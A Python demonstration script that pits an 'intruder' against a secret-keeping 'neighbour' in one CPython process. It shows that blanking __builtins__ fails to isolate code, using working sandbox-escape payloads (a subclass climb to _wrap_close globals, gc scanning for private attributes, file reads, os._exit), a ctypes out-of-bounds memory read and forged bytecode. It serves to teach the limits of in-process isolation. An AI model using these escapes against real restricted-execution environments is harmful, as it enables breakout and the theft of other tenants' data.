"""Two tenants in one CPython. Run as `python -I -S tenants_python.py WALL ATTACK SECRET FILE`.

WALL is `none` or `no builtins`: then the intruder's code finds no built-in name at all, not even
`open`. Or WALL is `ctypes` or `forged`, which read past the end, by an address and by bytecode that
no compiler writes. ATTACK is memory, file, end or past. Prints what the intruder got, or why not;
then that the neighbour lives, if it does. Never imported.
"""

import ctypes
import dis
import resource
import sys
import types


class Neighbour:
    """A tenant that keeps a secret."""

    def __init__(self, secret: str) -> None:
        self.__secret = secret

    def greet(self) -> str:
        """Say that all is well, and keep the secret."""
        return "the neighbour lives" if self.__secret else "?"


PLAIN = {
    "memory": "import gc\nfor one in gc.get_objects():\n"
    "    if type(one).__name__ == 'Neighbour': say(one._Neighbour__secret)",
    "file": "say(open(file).read().strip())",
    "end": "import os\nos._exit(0)",
    "past": "say([1, 2, 3, 4][4])",
}
# What the intruder starts from is an empty tuple. Its class leads to all classes of the process.
CLIMB = """
for one in ().__class__.__base__.__subclasses__():
    if one.__name__ == '_wrap_close': names = one.__init__.__globals__
everything = names['__builtins__']
"""
CLIMBING = {
    "memory": CLIMB + "gc = everything['__import__']('gc')\nfor one in gc.get_objects():\n"
    "    if one.__class__.__name__ == 'Neighbour': say(one._Neighbour__secret)",
    "file": CLIMB + "say(everything['open'](file).read().strip())",
    "end": CLIMB + "names['_exit'](0)",
    "past": "say([1, 2, 3, 4][4])",
}


def past_the_end() -> str:
    """Read eight bytes more than a bytes object has, by its address."""
    own = b"four"
    there = ctypes.string_at(id(own) + bytes.__basicsize__ - 1, len(own) + 8)
    return f"{len(there)} bytes of {len(own)}: {there.hex(' ')}"


def forged() -> object:
    """Load local variable number 255 of a function that has none."""
    program = [dis.opmap["RESUME"], 0, dis.opmap["LOAD_FAST"], 255, dis.opmap["RETURN_VALUE"], 0]
    code = (lambda: None).__code__.replace(co_code=bytes(program))
    return types.FunctionType(code, {})()


def main() -> None:
    """Let the intruder loose."""
    wall, attack, secret, file = sys.argv[1:]
    neighbour = Neighbour(secret)
    if wall == "ctypes":
        print(past_the_end())
        return
    if wall == "forged":
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
        print(f"local variable 255 of none: {forged()!r:.40}")
        return
    code = PLAIN[attack] if wall == "none" else CLIMBING[attack]
    names = {"say": print, "file": file}
    if wall != "none":
        names["__builtins__"] = {}
    try:
        exec(code, names)
    except Exception as refusal:
        print(f"stopped: {type(refusal).__name__}")
    print(neighbour.greet())


main()
